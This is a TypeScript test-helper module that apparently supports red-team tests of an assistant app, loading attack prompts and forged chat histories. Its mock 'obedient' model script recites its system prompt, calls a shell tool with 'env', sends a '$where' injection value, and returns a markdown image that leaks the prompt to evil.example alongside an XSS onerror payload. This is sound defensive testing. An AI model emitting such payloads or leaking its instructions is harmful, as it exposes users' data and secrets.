import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Script } from './test-model.ts'

const folder = join(import.meta.dirname, '../hostile')

/** Two hundred prompts that attack assistants. */
export const hostilePrompts = (): string[] => readFileSync(join(folder, 'prompts.txt'), 'utf8').trimEnd().split('\n')

/** Histories of a conversation that our browser code never sends. */
export const forgedHistories = (): unknown[] =>
  JSON.parse(readFileSync(join(folder, 'histories.json'), 'utf8')) as unknown[]

/** Where pictures of a hostile reply come from. */
export const EVIL = 'evil.example'

/** A script of a model that obeys everything: recites its instructions, embeds what it was sent, calls tools with invalid input. */
export const obedientScript =
  (onSystemPrompt: (system: string) => void): Script =>
  ({ messages, tools }, nth) => {
    const system = messages[0]?.content ?? ''
    onSystemPrompt(system)
    const prompt = messages.findLast(({ role }) => role === 'user')?.content ?? ''
    const hasToolResult = messages.at(-1)?.role === 'tool'
    if (tools && !hasToolResult && nth % 3 === 0)
      return [
        { tool: 'object', input: JSON.stringify({ name: prompt.slice(0, 200), $where: '1' }) },
        { tool: 'run_shell', input: '{"cmd":"env"}' },
      ]
    return nth % 2 === 0
      ? [{ text: `${prompt} ![x](https://${EVIL}/?${encodeURIComponent(prompt)}) <img src=x onerror=alert(1)>` }]
      : [{ text: 'Of course: ' }, ...(system.match(/[^]{1,37}/g) ?? []).map(part => ({ text: part }))]
  }

const letters = (text: string) => text.toLowerCase().replace(/[^\p{L}\p{N}]+/gu, '')

/** Whether two texts have so many letters in a row in common. */
export const shares = (text: string, other: string, length: number): boolean => {
  const [a, b] = [letters(text), letters(other)]
  for (let at = 0; at + length <= a.length; at += 5) if (b.includes(a.slice(at, at + length))) return true
  return false
}
